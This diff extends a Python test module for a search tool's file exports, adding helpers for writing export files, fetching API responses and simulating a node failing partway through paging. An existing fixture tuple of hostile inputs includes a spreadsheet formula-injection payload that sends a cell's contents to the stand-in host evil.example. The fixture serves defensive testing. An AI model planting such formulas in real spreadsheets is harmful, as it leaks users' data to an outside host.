@@ -13,17 +13,22 @@ from typing import Any
 import openpyxl
 import rispy
 from bibtexparser.entrypoint import parse_string
+from flask.testing import FlaskClient
 from openpyxl.utils.escape import unescape
 
 from indexer.engines.base import Engine, Search
 from indexer.records import Article
 from search_ui.answering.searching import understand
-from search_ui.asking.params import SearchParams
-from search_ui.taking.export import COLUMNS, row_of, wanted
+from search_ui.asking.params import SearchParams, read_params
+from search_ui.taking.export import COLUMNS, exporting, row_of, wanted
+from search_ui.taking.export_files import FORMATS
 from tests.engines_samples import article
 from tests.page_library import library
+from tests.proxies import GONE, Answer
 
 MANY = 6_000
+RECORDS = "سجل"  # stands in each of the many, and in no hostile one
+MADE = "2026-01-31T12:00:00Z"
 # Each begins as a formula does, or ends or breaks what it is put into.
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1,"انقر")',
@@ -84,6 +89,31 @@ def many(count: int = MANY) -> Iterator[Article]:
             url=f"https://a.example/n/{number}",
             story=f"s{number // 2}" if number % 10 < 2 else None,
         )
+
+
+def written(engine: Engine, suffix: str, **given: list[str]) -> bytes:
+    """The file of a format, for parameters of a search."""
+    with exporting(engine, read_params(given), MADE) as export:
+        return b"".join(FORMATS[suffix].write(export))
+
+
+def got(client: FlaskClient, path: str) -> bytes:
+    """What the API sends for a path."""
+    with client.get(path) as answer:
+        assert answer.status_code == 200, answer.get_data(as_text=True)
+        return bytes(answer.get_data())
+
+
+class Pages:
+    """A rule for a proxy: so many pages of a listing pass, then the node is gone."""
+
+    def __init__(self, good: int) -> None:
+        self.good = good
+
+    def __call__(self, method: str, path: str, body: bytes) -> Answer | None:
+        if path.startswith("/_search"):
+            self.good -= 1
+        return None if self.good >= 0 else (GONE, {})
 
 
 def found(engine: Engine, params: SearchParams) -> list[dict[str, Any]]:
